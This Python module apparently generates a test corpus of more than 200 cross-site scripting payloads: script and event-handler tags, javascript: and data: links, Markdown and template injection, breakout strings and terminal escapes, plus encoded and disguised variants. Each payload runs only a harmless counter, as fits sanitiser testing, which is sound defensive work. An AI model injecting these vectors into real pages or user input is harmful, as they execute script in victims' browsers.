"""Texts that would run as a program in a careless page: 200 and more, made from a few dozen seeds."""

from __future__ import annotations

import html
from urllib.parse import quote

#: Counts itself where it runs. Without quotes, so that it survives inside any attribute.
RUN = "window.__ran=(window.__ran||0)+1"

_TAGS = (
    "<script>{run}</script>",
    "<script src=data:text/javascript,{run}></script>",
    "<img src=x onerror={run}>",
    '<img src="x" onerror="{run}">',
    "<svg onload={run}>",
    "<svg><script>{run}</script></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<svg><set onbegin={run} attributeName=x to=1>",
    "<body onload={run}>",
    "<iframe srcdoc='<script>parent.{run}</script>'></iframe>",
    "<iframe src='javascript:parent.{run}'></iframe>",
    "<object data='javascript:{run}'></object>",
    "<embed src='javascript:{run}'>",
    "<video><source onerror={run}></video>",
    "<audio src=x onerror={run}>",
    "<details open ontoggle={run}>x</details>",
    "<input autofocus onfocus={run}>",
    "<select autofocus onfocus={run}></select>",
    "<textarea autofocus onfocus={run}></textarea>",
    "<marquee onstart={run}>x</marquee>",
    "<math><mtext><table><mglyph><style><img src=x onerror={run}></style></mglyph></table></mtext></math>",
    "<form action='javascript:{run}'><button>x</button></form>",
    "<button formaction='javascript:{run}'>x</button>",
    "<a href='javascript:{run}'>x</a>",
    "<a href='data:text/html,<script>{run}</script>'>x</a>",
    "<meta http-equiv=refresh content='0;url=javascript:{run}'>",
    "<base href='javascript:{run}//'>",
    "<link rel=stylesheet href='data:text/css,*{{background:url(javascript:{run})}}'>",
    "<style>@import 'javascript:{run}';</style>",
    "<template><img src=x onerror={run}></template>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'>",
    "<xss onpointerenter={run} style=position:fixed;inset:0>x</xss>",
)
_MARKDOWN = (
    "[x](javascript:{run})",
    "[x](JaVaScRiPt:{run})",
    "[x](java\tscript:{run})",
    "[x](java&#10;script:{run})",
    "[x](&#106;avascript:{run})",
    "[x](%6aavascript:{run})",
    "[x](vbscript:{run})",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    '[x](//evil.example/"onmouseover={run})',
    "[x](x 'onmouseover={run}')",
    "![x](javascript:{run})",
    '![x](x" onerror="{run})',
    "![{run}](x)",
    "<javascript:{run}>",
    "[x]\n\n[x]: javascript:{run}",
    "[x][y]\n\n[y]: <javascript:{run}>",
    '```"><img src=x onerror={run}>\ncode\n```',
    "```html\n<script>{run}</script>\n```",
    "`<img src=x onerror={run}>`",
    "| a |\n|---|\n| <img src=x onerror={run}> |",
    "# <img src=x onerror={run}>",
    "- [ ] <img src=x onerror={run}>",
    "~~<svg onload={run}>~~",
    'http://example.com/"onmouseover={run}//',
    "www.example.com/<img src=x onerror={run}>",
    "a@b.c'onmouseover={run}",
    "[^1]\n\n[^1]: <img src=x onerror={run}>",
)
_TEXTS = (
    "{{{{constructor.constructor('{run}')()}}}}",
    "${{{run}}}",
    "javascript:{run}",
    "</title><script>{run}</script>",
    "</textarea><img src=x onerror={run}>",
    "--><img src=x onerror={run}><!--",
    "]]><img src=x onerror={run}>",
    "'-{run}-'",
    '";{run}//',
    "\u202e<img src=x onerror={run}>",
    "\u2028{run}\u2029",
    "\x1b]8;;javascript:{run}\x1b\\x\x1b]8;;\x1b\\",
    "\x1b[31m<img src=x onerror={run}>\x1b[0m",
    "\x9b31m<svg onload={run}>",
    'src/"><img src=x onerror={run}>.py:42',
    "@<img src=x onerror={run}>",
)


def payloads() -> list[str]:
    """Each seed as it is, and in the disguises in which such texts travel."""
    seeds = [seed.format(run=RUN) for seed in (*_TAGS, *_MARKDOWN, *_TEXTS)]
    tags = [seed.format(run=RUN) for seed in _TAGS]
    disguised = [
        *(tag.upper().replace(RUN.upper(), RUN) for tag in tags),
        *(html.escape(tag) for tag in tags),
        *(quote(tag) for tag in tags),
        *(tag.replace(" ", "/") for tag in tags if " " in tag),
        *(tag.replace("<", "<\x0c", 1) for tag in tags[:8]),
        *(f"<{tag}" for tag in tags[:8]),
        *(tag.rstrip(">") for tag in tags[:8]),
    ]
    return list(dict.fromkeys([*seeds, *disguised]))
